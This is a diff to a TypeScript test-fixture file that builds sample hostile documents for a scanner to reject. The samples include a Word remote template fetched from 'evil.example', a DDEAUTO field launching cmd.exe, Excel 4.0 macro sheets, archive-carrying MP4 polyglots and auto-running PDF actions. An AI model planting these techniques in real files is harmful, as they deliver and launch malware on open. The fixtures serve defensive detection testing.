@@ -66,6 +66,27 @@ function oldOffice(...streams: string[]): Buffer {
   return Buffer.concat([magic, Buffer.alloc(504), ...names, Buffer.alloc(512)]);
 }
 
+/** The old container, whole: its table, its directory and a workbook of eight sectors. */
+function macroSheet(): Buffer {
+  const file = Buffer.alloc(11 * 512);
+  file.write('d0cf11e0a1b11ae1', 'hex');
+  file.fill(0xff, 76, 1024);
+  file.writeUInt16LE(9, 30);
+  file.writeUInt32LE(1, 48);
+  file.writeUInt32LE(4096, 56);
+  file.writeInt32LE(-2, 60);
+  file.writeInt32LE(-2, 68);
+  file.writeUInt32LE(0, 76);
+  for (const [at, next] of [-3, -2, 3, 4, 5, 6, 7, 8, 9, -2].entries()) file.writeInt32LE(next, 512 + at * 4);
+  file.write('Workbook', 1024, 'utf16le');
+  file.writeUInt16LE(18, 1024 + 64);
+  file.writeUInt8(2, 1024 + 66);
+  file.writeUInt32LE(2, 1024 + 116);
+  file.writeUInt32LE(4096, 1024 + 120);
+  file.write('85000900000000000001010041', 1536, 'hex');
+  return file;
+}
+
 function packedScripts(): Parameters<typeof family>[1] {
   return [
     ['packed.pdf', 'packs the script away', packedPdf(), 'stopped by the check'],
@@ -85,19 +106,53 @@ function packedScripts(): Parameters<typeof family>[1] {
   ];
 }
 
+const letterWith = (name: string, text: string) =>
+  zipOfTexts({ '[Content_Types].xml': typesOf(WORD), 'word/document.xml': '<x/>', [name]: text });
+
 function carriers(): Parameters<typeof family>[1] {
-  const letterWith = (name: string) =>
-    zipOfTexts({ '[Content_Types].xml': typesOf(WORD), 'word/document.xml': '<x/>', [name]: 'MZ' });
   const film = Buffer.from('000000186674797069736f6d0000020069736f6d69736f32', 'hex');
+  const hidden: [string, Buffer][] = [
+    ['archive', zipOfTexts({ 'setup.exe': 'MZ' })],
+    ['early-archive', Buffer.concat([zipOfTexts({ 'setup.exe': 'MZ' }), Buffer.alloc(70_000)])],
+    ['rar', Buffer.from('526172211a0700', 'hex')],
+    ['7z', Buffer.from('377abcaf271c0004', 'hex')],
+  ];
   return [
-    ['embedded.docx', 'carries a file', letterWith('word/embeddings/a.bin'), 'stopped by the check'],
-    ['program.docx', 'carries a program', letterWith('setup.exe'), 'stopped by the check'],
-    [
-      'archive.mp4',
+    ['embedded.docx', 'carries a file', letterWith('word/embeddings/a.bin', 'MZ'), 'stopped by the check'],
+    ['program.docx', 'carries a program', letterWith('setup.exe', 'MZ'), 'stopped by the check'],
+    ['picture.docx', 'calls it a picture', letterWith('word/media/a.png', 'MZ'), 'stopped by the check'],
+    ...hidden.map(([name, archive]): Parameters<typeof family>[1][number] => [
+      `${name}.mp4`,
       'a film that is an archive too',
-      Buffer.concat([film, zipOfTexts({ 'setup.exe': 'MZ' })]),
+      Buffer.concat([film, archive]),
+      'stopped by the check',
+    ]),
+  ];
+}
+
+const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+
+/** Documents that fetch something, or ask a program, when they are opened. */
+function askers(): Parameters<typeof family>[1] {
+  const template = `<Relationships><Relationship Id="a" Type="${RELATIONS}/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>`;
+  const field = '<w:fldSimple w:instr="DDEAUTO cmd.exe &quot;/k calc.exe&quot;"/>';
+  return [
+    [
+      'template.docx',
+      'its template is elsewhere',
+      letterWith('word/_rels/settings.xml.rels', template),
       'stopped by the check',
     ],
+    ['dde.docx', 'a field starts a program', letterWith('word/header1.xml', field), 'stopped by the check'],
+    ['sheet.xls', 'a sheet of Excel 4.0 macros', macroSheet(), 'stopped by the check'],
+    [
+      'rendition.pdf',
+      'runs a script as a rendition',
+      pdfWith('/OpenAction <</S/Rendition/JS(app.alert(1))>>'),
+      'stopped by the check',
+    ],
+    ['goto.pdf', 'opens a file inside', pdfWith('/OpenAction <</S/GoToE/F(x)>>'), 'stopped by the check'],
+    ['model.pdf', 'a model that moves', pdfWith('', '<</Subtype/3D/3DD 5 0 R>>'), 'stopped by the check'],
   ];
 }
 
@@ -166,6 +221,7 @@ export function activeDocuments(): HostileFile[] {
       'stopped by the check',
     ],
     ...carriers(),
+    ...askers(),
     [
       'macro.doc',
       'an old document with macros',
